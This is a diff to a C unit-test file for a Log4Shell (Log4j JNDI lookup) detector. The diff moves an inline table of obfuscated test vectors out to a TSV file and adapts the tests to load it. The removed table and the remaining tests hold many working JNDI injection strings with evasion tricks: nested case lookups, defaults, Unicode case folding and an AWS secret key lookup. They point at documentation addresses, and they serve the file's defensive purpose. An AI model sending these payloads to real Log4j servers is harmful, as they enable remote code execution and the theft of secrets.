@@ -4,115 +4,92 @@
 
 #include <setjmp.h>
 #include <stdarg.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <cmocka.h>
 
-/* Verdicts are those of the real engine (tests/oracle). */
-static const struct {
-    const char *note, *text, *names[LOOKUP_MAX_HITS];
-} vectors[] = {
-    /* clang-format off */
-    {"plain", "${jndi:ldap://192.0.2.1:1389/a}", {"ldap://192.0.2.1:1389/a"}},
-    {"prefix is caseless", "${JnDi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"scheme keeps its case", "${jndi:LDAP://192.0.2.1/a}", {"LDAP://192.0.2.1/a"}},
-    {"text around", "GET /x ${jndi:rmi://192.0.2.1:1099/o} HTTP", {"rmi://192.0.2.1:1099/o"}},
-    {"lower, upper", "${${lower:J}n${upper:d}i:${lower:LDAP}://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"lookup names are caseless", "${${LoWeR:J}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"lower of more than one letter", "${${lower:jndi}:${lower:ldap://192.0.2.1/A}}", {"ldap://192.0.2.1/a"}},
-    {"nested three deep", "${${lower:${upper:${lower:j}}}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"empty name, default", "${${:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"colon, default", "${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"many colons", "${${a:b:c:d:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"unset variable, default", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"unknown lookup, default", "${${nope:x:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"default is empty", "${j${x:-}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"lower of nothing", "${j${lower:}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"lookup name from a default", "${${${:-l}ower:J}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"delimiter from a default", "${${a${b:-:}-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"delimiter from lower", "${${a:${lower:-}j}ndi:ldap://192.0.2.1/a}", {}},
-    {"first :- counts", "${${a:-j:-x}ndi:ldap://192.0.2.1/a}", {}},
-    {":- inside the JNDI name", "${jndi:ldap://192.0.2.1/a:-b}", {"ldap://192.0.2.1/a"}},
-    {"escaped delimiter", "${${a:\\-b:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"escaped delimiter, no default: key of lower is -J", "${lower:\\-J}", {}},
-    {"escaped delimiter in a JNDI name", "${jndi:ldap:\\-x}", {"ldap:-x"}},
-    {"date, quoted", "${${date:'jnd'}i:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"date, not quoted", "${${date:j}ndi:ldap://192.0.2.1/a}", {}},
-    {"dotless i", "${jnd${upper:\304\261}:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"dotless i in the prefix itself", "${jnd\304\261:ldap://192.0.2.1/a}", {}},
-    {"dotted capital I, lower gives two characters", "${jnd${lower:\304\260}:ldap://192.0.2.1/a}", {}},
-    {"dotted capital I in the prefix itself", "${jnd\304\260:ldap://192.0.2.1/a}", {}},
-    {"long s", "${jndi:ldap${lower:${upper:\305\277}}://192.0.2.1/a}", {"ldaps://192.0.2.1/a"}},
-    {"sharp s grows", "${jndi:ldap://192.0.2.1/${upper:\303\237}}", {"ldap://192.0.2.1/SS"}},
-    {"Kelvin sign", "${jndi:ldap://${lower:\342\204\252}.example.com/a}", {"ldap://k.example.com/a"}},
-    {"unresolved stays in the name", "${jndi:ldap://192.0.2.1/${env:AWS_SECRET_ACCESS_KEY}}", {"ldap://192.0.2.1/${env:AWS_SECRET_ACCESS_KEY}"}},
-    {"unresolved in the host", "${jndi:dns://${env:NOPE}.example.com}", {"dns://${env:NOPE}.example.com"}},
-    {"unresolved in the prefix", "${j${nope}ndi:ldap://192.0.2.1/a}", {}},
-    {"empty expression in the prefix", "${j${}ndi:ldap://192.0.2.1/a}", {}},
-    {"empty expression in the name", "${jndi:ldap://192.0.2.1/${}}", {"ldap://192.0.2.1/${}"}},
-    {"in a default", "${x:-${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
-    {"in a default that is not needed", "${lower:x:-${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
-    {"in a name", "${${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
-    {"in another JNDI name", "${jndi:rmi://${jndi:ldap://192.0.2.1/a}/b}", {"ldap://192.0.2.1/a", "rmi://${jndi:ldap://192.0.2.1/a}/b"}},
-    {"text only", "${x:-jndi:ldap://192.0.2.1/a}", {}},
-    {"text only, lower", "${lower:jndi:ldap://192.0.2.1/a}", {}},
-    {"two", "${jndi:ldap://192.0.2.1/a}${jndi:rmi://192.0.2.2/b}", {"ldap://192.0.2.1/a", "rmi://192.0.2.2/b"}},
-    {"not closed", "${jndi:ldap://192.0.2.1/a", {}},
-    {"inner closed, outer not", "${${lower:j}ndi:ldap://192.0.2.1/a", {}},
-    {"one open before", "${ x ${jndi:ldap://192.0.2.1/a}", {}},
-    {"one brace too many", "${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
-    {"brace in the name ends it", "${jndi:ldap://192.0.2.1/{a}b}", {"ldap://192.0.2.1/{a"}},
-    {"escaped", "$${jndi:ldap://192.0.2.1/a}", {}},
-    {"escaped, and another ${ to the right", "$${jndi:ldap://192.0.2.1/a} ${x}", {"ldap://192.0.2.1/a"}},
-    {"escaped, and another ${ to the left", "${x} $${jndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"escaped twice", "$$${jndi:ldap://192.0.2.1/a}", {}},
-    {"escaped twice, two more to the right", "$$${jndi:ldap://192.0.2.1/a} ${x} ${y}", {"ldap://192.0.2.1/a"}},
-    {"escaped inside", "${x:-$${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
-    {"escaped inside a name that resolves", "${${lower:j}$${lower:n}di:ldap://192.0.2.1/a}", {}},
-    {"dollar made, at the start", "${x:-$}{jndi:ldap://192.0.2.1/a}", {}},
-    {"dollar made, after a longer text that shrinks", "${x:-12345678}${x:-$}{jndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"dollar made, another ${ to the right", "${x:-$}{jndi:ldap://192.0.2.1/a} ${y}", {"ldap://192.0.2.1/a"}},
-    {"brace made", "$${x:-{}jndi:ldap://192.0.2.1/a} ${y}", {}},
-    {"cyclic: the message is given up", "${x:-$${x:-y}}${jndi:ldap://192.0.2.1/a}", {}},
-    {"cyclic, but behind", "${jndi:ldap://192.0.2.1/a}${x:-$${x:-y}}", {"ldap://192.0.2.1/a"}},
-    {"CVE-2021-45105", "${${::-${::-$${::-j}}}}", {}},
-    {"unknown java key: the message is given up", "${java:nope}${jndi:ldap://192.0.2.1/a}", {}},
-    {"unknown java key behind", "${jndi:ldap://192.0.2.1/a}${java:nope}", {"ldap://192.0.2.1/a"}},
-    {"no scheme", "${jndi:foo}", {"foo"}},
-    {"java: name", "${jndi:java:comp/env/jdbc/x}", {"java:comp/env/jdbc/x"}},
-    {"nothing", "${jndi:}", {""}},
-    {"no colon", "${jndi}", {}},
-    {"blank before", "${ jndi:ldap://192.0.2.1/a}", {}},
-    {"blank after", "${jndi: ldap://192.0.2.1/a}", {" ldap://192.0.2.1/a"}},
-    {"line feed inside", "${jndi:ldap://192.0.2.1/\012a}", {"ldap://192.0.2.1/\012a"}},
-    {"user and host", "${jndi:ldap://u:p@192.0.2.1/a}", {"ldap://u:p@192.0.2.1/a"}},
-    {"fragment host", "${jndi:ldap://127.0.0.1#x.example.com:1389/a}", {"ldap://127.0.0.1#x.example.com:1389/a"}},
-    {"IPv6", "${jndi:ldap://[2001:db8::1]:1389/a}", {"ldap://[2001:db8::1]:1389/a"}},
-    {"path.separator and file.separator", "${jndi${sys:path.separator}ldap:${sys:file.separator}/192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"java version in the name", "${jndi:ldap://192.0.2.1/${java:version}}", {"ldap://192.0.2.1/${java:version}"}},
-    {"percent stays", "${jnd${123%25ff:-i}:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
-    {"base64 lookup is not there", "${${base64:am5kaQ==}:ldap://192.0.2.1/a}", {}},
-    {"wrong bracket", "$(jndi:ldap://192.0.2.1/a)", {}},
-    {"doubled brace", "${{jndi:ldap://192.0.2.1/a}}", {}},
-    {"shell default that is none", "${JNDI:=ldap://192.0.2.1/a}", {"=ldap://192.0.2.1/a"}},
-    {"no dollar", "{jndi:ldap://192.0.2.1/a}", {}},
-    {"apart", "$ {jndi:ldap://192.0.2.1/a}", {}},
-    {"log4j configuration", "${sys:user.home}/${date:yyyy-MM-dd}/${ctx:id}.log", {}},
-    {"nothing at all", "hello", {}},
-    {"era is steady", "${jndi:${date:G}}", {"AD"}},
-    {"two quotes are one", "${jndi:${date:'a''b'}}", {"a'b"}},
-    {"final sigma", "${jndi:${lower:\316\221\316\243}}", {"\316\261\317\202"}},
-    {"upper of one letter is two", "${jndi:${upper:\305\211}}", {"\312\274N"}},
-    {"another plane keeps its place in the loop", "\360\237\230\200${::-x}$${jndi:ldap://h/x}", {"ldap://h/x"}},
-    {"blank in front stays", "${jndi: rmi://h/x}", {" rmi://h/x"}},
-    /* clang-format on */
+/* The texts of tests/oracle/vectors.tsv; the verdicts there are those of the real engine, and
+ * tests/oracle/compare.py holds both to them. */
+struct vector {
+    char note[128];
+    bool lost; /* Log4j gives the message up */
+    struct buf text, names[LOOKUP_MAX_HITS];
+    unsigned n_names;
 };
+
+static struct vector *vectors;
+static size_t n_vectors;
 
 static struct config *config;
 static struct lookup *lookup;
 
+/* One field without its escapes; *line moves behind its tab. */
+static struct buf next_field(const char **line)
+{
+    struct buf field = buf_within(1 << 16);
+    const char *p = *line;
+
+    for (; *p && *p != '\t' && *p != '\n'; p++) {
+        if (*p != '\\') {
+            buf_add_byte(&field, (uint8_t)*p);
+            continue;
+        }
+        if (p[1] == 'x') {
+            buf_add_byte(&field, (uint8_t)(hex_value((uint8_t)p[2]) << 4 | hex_value((uint8_t)p[3])));
+            p += 3;
+            continue;
+        }
+        assert_int_equal(p[1], '\\');
+        buf_add_byte(&field, (uint8_t) * ++p);
+    }
+    *line = p + (*p == '\t');
+    return field;
+}
+
+static void read_vector(const char *line, struct vector *v)
+{
+    struct buf note = next_field(&line), end = next_field(&line);
+
+    *v = (struct vector){0};
+    assert_true(note.len < sizeof v->note);
+    memcpy(v->note, note.p, note.len);
+    v->lost = bytes_eq(buf_bytes(&end), BYTES_LIT("lost"));
+    v->text = next_field(&line);
+    while (*line && *line != '\n') {
+        assert_true(v->n_names < LOOKUP_MAX_HITS);
+        v->names[v->n_names] = next_field(&line);
+        if (bytes_eq(buf_bytes(&v->names[v->n_names]), BYTES_LIT("-")))
+            buf_clear(&v->names[v->n_names]); /* JNDI is asked for the empty name */
+        v->n_names++;
+    }
+    buf_drop(&note);
+    buf_drop(&end);
+}
+
+static void read_vectors(void)
+{
+    FILE *file = fopen("tests/oracle/vectors.tsv", "r");
+    char *line = NULL;
+    size_t room = 0;
+
+    if (!file)
+        fail_msg("tests/oracle/vectors.tsv: run this from the top of the source tree");
+    while (getline(&line, &room, file) > 0) {
+        if (line[0] == '#' || line[0] == '\n')
+            continue;
+        vectors = realloc(vectors, (n_vectors + 1) * sizeof *vectors);
+        assert_non_null(vectors);
+        read_vector(line, &vectors[n_vectors++]);
+    }
+    assert_true(n_vectors > 150);
+    free(line);
+    fclose(file);
+}
+
 static int set_up(void **state)
 {
     (void)state;
+    read_vectors();
     config = config_new();
     assert_non_null(config);
     lookup = lookup_new(config);
@@ -123,6 +100,12 @@ static int set_up(void **state)
 static int tear_down(void **state)
 {
     (void)state;
+    for (size_t i = 0; i < n_vectors; i++) {
+        buf_drop(&vectors[i].text);
+        for (unsigned k = 0; k < vectors[i].n_names; k++)
+            buf_drop(&vectors[i].names[k]);
+    }
+    free(vectors);
     lookup_free(lookup);
     config_free(config);
     return 0;
@@ -131,18 +114,16 @@ static int tear_down(void **state)
 static void names_are_log4js(void **state)
 {
     (void)state;
-    for (size_t i = 0; i < sizeof vectors / sizeof *vectors; i++) {
+    for (size_t i = 0; i < n_vectors; i++) {
+        const struct vector *v = &vectors[i];
         struct lookup_result r;
-        unsigned n = 0;
 
-        while (n < LOOKUP_MAX_HITS && vectors[i].names[n])
-            n++;
-        assert_int_equal(lookup_resolve(lookup, bytes_str(vectors[i].text), &r), n > 0);
-        if (r.n_hits != n)
-            fail_msg("%s: %u names, not %u", vectors[i].note, r.n_hits, n);
-        for (unsigned k = 0; k < n; k++)
-            if (!bytes_eq(r.hits[k].name, bytes_str(vectors[i].names[k])))
-                fail_msg("%s: name %u is \"%.*s\"", vectors[i].note, k, (int)r.hits[k].name.len,
+        assert_int_equal(lookup_resolve(lookup, buf_bytes(&v->text), &r), v->n_names > 0);
+        if (r.n_hits != v->n_names || r.aborted != v->lost)
+            fail_msg("%s: %u names, not %u%s", v->note, r.n_hits, v->n_names, r.aborted ? ", and lost" : "");
+        for (unsigned k = 0; k < v->n_names; k++)
+            if (!bytes_eq(r.hits[k].name, buf_bytes(&v->names[k])))
+                fail_msg("%s: name %u is \"%.*s\"", v->note, k, (int)r.hits[k].name.len,
                          (const char *)r.hits[k].name.p);
     }
 }
@@ -151,8 +132,8 @@ static void names_are_log4js(void **state)
 static void every_cut_is_safe(void **state)
 {
     (void)state;
-    for (size_t i = 0; i < sizeof vectors / sizeof *vectors; i++) {
-        struct bytes text = bytes_str(vectors[i].text);
+    for (size_t i = 0; i < n_vectors; i++) {
+        struct bytes text = buf_bytes(&vectors[i].text);
 
         for (size_t cut = 0; cut <= text.len; cut++) {
             uint8_t *exact = malloc(cut + !cut);
@@ -183,7 +164,8 @@ static void techniques_are_told(void **state)
     assert_int_equal(techniques_of("${JNDI:ldap://h/a}"), LOOKUP_PREFIX_CASE);
     assert_int_equal(techniques_of("${${lower:j}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_LOWER);
     assert_int_equal(techniques_of("${${::-j}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_DEFAULT);
-    assert_int_equal(techniques_of("${${env:X:-j}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_DEFAULT | LOOKUP_ENV);
+    assert_int_equal(techniques_of("${${env:X:-j}ndi:ldap://h/a}"),
+                     LOOKUP_NESTED | LOOKUP_DEFAULT | LOOKUP_ENV);
     assert_int_equal(techniques_of("${${date:'j'}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_DATE);
     assert_int_equal(techniques_of("${jnd${upper:\xc4\xb1}:ldap://h/a}"),
                      LOOKUP_NESTED | LOOKUP_UPPER | LOOKUP_UNICODE_CASE | LOOKUP_PREFIX_CASE);
@@ -271,11 +253,13 @@ static void more_names_than_fit_are_told(void **state)
     buf_drop(&text);
 }
 
-/* The prefilter must not miss what the resolver would report: random texts of the pieces that lookups are made of. */
+/* The prefilter must not miss what the resolver would report: random texts of the pieces that lookups are
+ * made of. */
 static void the_trigger_misses_nothing(void **state)
 {
-    static const char *const words[] = {"jndi:", "jn", "di", "${", "${", "${", "}", "}", "$", "$$", "{", ":", ":-", "::-",
-                                        "lower:", "upper:", "x", "ldap://h/a", "env:A", "date:'j'", "\xc4\xb1", " "};
+    static const char *const words[] = {
+        "jndi:", "jn", "di",  "${",     "${",     "${", "}",          "}",     "$",        "$$",       "{",
+        ":",     ":-", "::-", "lower:", "upper:", "x",  "ldap://h/a", "env:A", "date:'j'", "\xc4\xb1", " "};
     struct complaint why = {{0}};
     struct scan *scan = scan_new(&why);
     unsigned seed = 4711, n_hits = 0;
@@ -307,12 +291,9 @@ static void the_trigger_misses_nothing(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(names_are_log4js),
-        cmocka_unit_test(every_cut_is_safe),
-        cmocka_unit_test(techniques_are_told),
-        cmocka_unit_test(the_slice_is_the_expression),
-        cmocka_unit_test(budgets_are_told),
-        cmocka_unit_test(more_names_than_fit_are_told),
+        cmocka_unit_test(names_are_log4js),           cmocka_unit_test(every_cut_is_safe),
+        cmocka_unit_test(techniques_are_told),        cmocka_unit_test(the_slice_is_the_expression),
+        cmocka_unit_test(budgets_are_told),           cmocka_unit_test(more_names_than_fit_are_told),
         cmocka_unit_test(the_trigger_misses_nothing),
     };
 
